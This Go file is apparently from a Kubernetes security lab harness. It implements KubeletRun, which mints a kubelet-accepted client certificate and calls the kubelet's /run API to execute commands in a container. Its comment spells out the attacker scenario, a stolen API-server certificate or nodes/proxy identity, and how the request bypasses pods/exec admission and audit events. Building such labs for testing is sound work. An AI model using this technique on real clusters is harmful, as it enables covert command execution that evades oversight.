package lab

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"
)

// KubeletRun runs a command in a container through the kubelet's own API (POST /run/NS/POD/CONTAINER?cmd=...,
// port 10250's API, here on the pod bridge's gateway), with a client certificate the kubelet accepts — the API server's user,
// which an attacker holds after stealing that certificate or any identity with nodes/proxy. The API server never
// sees the request: no pods/exec admission request, no audit event. Returns the command's output.
func (cp *ControlPlane) KubeletRun(ctx context.Context, namespace, pod, container string, command []string) (string, error) {
	n := cp.node
	if n == nil || n.kubeletPort == 0 {
		return "", fmt.Errorf("lab: no real node: the kubelet API exists only with Options.RealNode")
	}
	certPEM, keyPEM, err := cp.CA.IssueClient(apiServerKubeletUser)
	if err != nil {
		return "", err
	}
	cert, err := tls.X509KeyPair(certPEM, keyPEM)
	if err != nil {
		return "", fmt.Errorf("lab: kubelet client certificate: %w", err)
	}
	client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{
		Certificates: []tls.Certificate{cert}, RootCAs: cp.CA.Pool(), ServerName: RealNodeName, MinVersion: tls.VersionTLS12}}}
	u := url.URL{Scheme: "https", Host: net.JoinHostPort(n.Gateway.String(), strconv.Itoa(n.kubeletPort)),
		Path: "/run/" + namespace + "/" + pod + "/" + container, RawQuery: url.Values{"cmd": {strings.Join(command, " ")}}.Encode()}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, u.String(), nil)
	if err != nil {
		return "", err
	}
	resp, err := client.Do(req)
	if err != nil {
		return "", fmt.Errorf("lab: kubelet /run: %w", err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("lab: kubelet /run %s/%s/%s: %s: %s", namespace, pod, container, resp.Status, strings.TrimSpace(string(body)))
	}
	return string(body), nil
}
